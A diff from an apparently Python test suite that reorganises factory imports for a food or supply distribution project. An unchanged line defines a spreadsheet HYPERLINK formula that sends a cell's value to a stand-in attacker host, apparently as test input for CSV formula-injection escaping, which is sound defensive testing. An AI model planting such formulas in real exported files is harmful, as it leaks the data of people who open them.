@@ -16,15 +16,10 @@ from edgecamp.cli import main
 from edgecamp.csvio import safe_cell
 from edgecamp.distributions.cards import card_code
 from edgecamp.distributions.services import RedeemInput, redeem, start_cycle
-from tests.factories import make_household
-from tests.supply_factories import (
-    make_cycle,
-    make_item,
-    make_organisation,
-    make_warehouse,
-    per_person,
-    stock_up,
-)
+from tests.distributions.factories import make_cycle, per_person
+from tests.partners.factories import make_organisation
+from tests.registry.factories import make_household
+from tests.stock.factories import make_item, make_warehouse, stock_up
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
 
